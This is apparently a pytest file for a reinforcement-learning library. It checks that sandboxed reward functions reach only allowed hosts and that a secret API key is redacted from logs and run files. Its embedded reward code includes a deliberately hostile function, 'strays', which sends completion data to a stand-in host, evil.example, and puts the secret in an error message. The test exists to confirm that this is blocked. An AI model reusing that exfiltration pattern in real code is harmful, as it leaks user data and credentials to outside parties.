"""A run whose reward functions use the network and secrets, through the public functions and the command line."""

from __future__ import annotations

import json
import zlib

import pytest
from click.testing import CliRunner
from servers import Server, answer, requests_on

import reinforge
from reinforge.cli.main import cli
from reinforge.errors import SetupError
from reinforge.run_store.run import Run
from reinforge.sandbox import tiers
from reinforge.verification import verify

SECRET = "sk-0123456789abcdefghijklmnop"
REWARDS = """
import os, urllib.request

def asks(prompt, completion, example):
    print("key", os.environ["JUDGE_KEY"])
    headers = {"Authorization": os.environ["JUDGE_KEY"]}
    request = urllib.request.Request("http://localhost:PORT/", completion.encode(), headers)
    score = float(urllib.request.urlopen(request, timeout=20).read())
    return {"score": score, "reason": os.environ["JUDGE_KEY"] + " liked it"}

def strays(prompt, completion, example):
    try: urllib.request.urlopen("https://evil.example/" + completion[:3].encode().hex(), timeout=20)
    except OSError as error: raise ValueError(f"{error} {os.environ.get('JUDGE_KEY')}")

def plain(prompt, completion, example): return float("JUDGE_KEY" in os.environ or "HTTP_PROXY" in os.environ)
"""


@pytest.fixture(scope="module")
def judge():
    asked = []

    def serve(connection):
        for head, body in requests_on(connection):
            asked.append(head)
            connection.sendall(answer(str(len(body) % 3 / 2).encode()))

    server = Server(serve)
    server.asked = asked
    yield server
    server.close()


class Notes(reinforge.api.SilentWatcher):
    def __init__(self):
        self.texts = []

    def note(self, text):
        self.texts.append(text)


@pytest.fixture(scope="module")
def made(tiny_qwen2, tmp_path_factory, judge):
    if isinstance(tiers.working("bubblewrap"), str):
        pytest.skip("no bubblewrap tier here")
    folder = tmp_path_factory.mktemp("network")
    (folder / "rewards.py").write_text(REWARDS.replace("PORT", str(judge.port)))
    config = reinforge.GRPOConfig.model_validate(
        {
            "base_model": str(tiny_qwen2),
            "reward_fns": {
                "functions": {name: f"rewards.py:{name}" for name in ("asks", "strays", "plain")},
                "max_error_rate": 1.0,
                "runtime": {
                    "allowed_hosts": [f"localhost:{judge.port}"],
                    "allow_private_addresses": True,
                    "secrets": ["JUDGE_KEY"],
                },
                "settings": {"plain": {"allowed_hosts": [], "secrets": []}},
            },
            "train_steps": 2,
            "prompts_per_step": 2,
            "num_generations": 2,
            "sampling_params": {"max_tokens": 4},
            "data": {"heldout": 0},
            "eval": {"max_prompts": None},
            "save_every": 1,
        }
    )
    rows = [{"prompt": f"Say {word}"} for word in ("one", "two", "three")]
    notes = Notes()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("JUDGE_KEY", SECRET)
        path = reinforge.train(config, rows, base_dir=folder, runs_dir=folder / "runs", name="run", watcher=notes)
    return path, notes.texts


def test_the_judge_was_asked_with_the_key(made, judge):
    assert len(judge.asked) >= 8
    assert all(SECRET.encode() in head for head in judge.asked)


def test_scores_and_metrics_tell_what_happened(made):
    with Run.open(made[0]) as run:
        rows = run.score_log(first=1, last=None, limit=100)
        metrics = run.steps(first=1)[0].metrics
    by_name = {name: [row for row in rows if row.name == name] for name in ("asks", "strays", "plain")}
    assert [row.state for row in by_name["asks"]] == ["ok"] * 8
    assert all(
        row.message == "[secret JUDGE_KEY] liked it" and row.prints == "key [secret JUDGE_KEY]\n"
        for row in by_name["asks"]
    )
    for row in by_name["strays"]:
        assert "403 evil.example is none of the hosts in reward_fns.runtime.allowed_hosts" in row.message
        assert "[secret JUDGE_KEY]" in row.message
    assert [row.value for row in by_name["plain"]] == [0.0] * 8
    assert metrics["network/refused"] == 4.0
    assert metrics["network/connections"] > 4.0  # those that were allowed may still be ending
    assert metrics["network/sent_bytes"] > len(SECRET)


def test_refusals_are_counted_events_and_notes(made):
    path, notes = made
    with Run.open(path) as run:
        events = [event for event in run.events(limit=-1) if event.kind == "network_refused"]
    assert sum(event.data["count"] for event in events) == 8
    assert all(event.data["function"] == "strays_v1" and event.data["host"] == "evil.example:443" for event in events)
    assert any("strays_v1: 4 connections to evil.example:443 refused" in note for note in notes)


def test_the_start_says_who_may_reach_what(made, judge):
    assert f"asks, strays may reach: localhost:{judge.port} (private addresses too), the secret JUDGE_KEY" in made[1]
    assert "plain may reach: no network, no secrets" in made[1]


def test_the_command_line_sums_connections_up(made, judge):
    path = str(made[0])
    shown = CliRunner().invoke(cli, ["rewards", "network", path])
    assert shown.exit_code == 0, shown.output
    lines = shown.stdout.splitlines()
    assert [line.split()[:4] for line in lines[1:3]] == [
        ["asks_v1", f"localhost:{judge.port}", "allowed", "8"],
        ["strays_v1", "evil.example:443", "refused", "8"],
    ]
    assert "evil.example is none of the hosts" in lines[3]
    as_json = CliRunner().invoke(cli, ["rewards", "network", path, "--json"])
    assert len([json.loads(line) for line in as_json.stdout.splitlines()]) == 16


def test_the_secret_is_nowhere_in_the_run_and_its_name_is(made):
    found = 0
    for file in made[0].rglob("*"):
        if file.is_file():
            found += 1
            assert SECRET[:8].encode() not in file.read_bytes(), file
    with Run.open(made[0]) as run:
        blobs = run._db.execute("SELECT prints FROM scores WHERE prints IS NOT NULL").fetchall()
    assert len(blobs) >= 8
    assert all(SECRET[:8].encode() not in zlib.decompress(blob) for (blob,) in blobs)
    assert found > 5
    assert "JUDGE_KEY" in (made[0] / "config.yaml").read_text()


def test_a_step_verifies_with_the_secret_and_says_what_is_missing_without(made, monkeypatch):
    monkeypatch.delenv("JUDGE_KEY", raising=False)
    with pytest.raises(SetupError, match="names JUDGE_KEY, but this environment variable is not set"):
        verify(made[0], 2)
    monkeypatch.setenv("JUDGE_KEY", SECRET)
    assert verify(made[0], 2).equal


def test_where_hosts_cannot_be_held_a_run_does_not_start(made, monkeypatch):
    if isinstance(tiers.working("landlock"), str):
        pytest.skip("no landlock tier here")
    monkeypatch.setenv(tiers.VARIABLE, "landlock")
    monkeypatch.setenv("JUDGE_KEY", SECRET)
    with pytest.raises(SetupError, match="the landlock tier of the sandbox cannot hold a function to these hosts"):
        verify(made[0], 2)
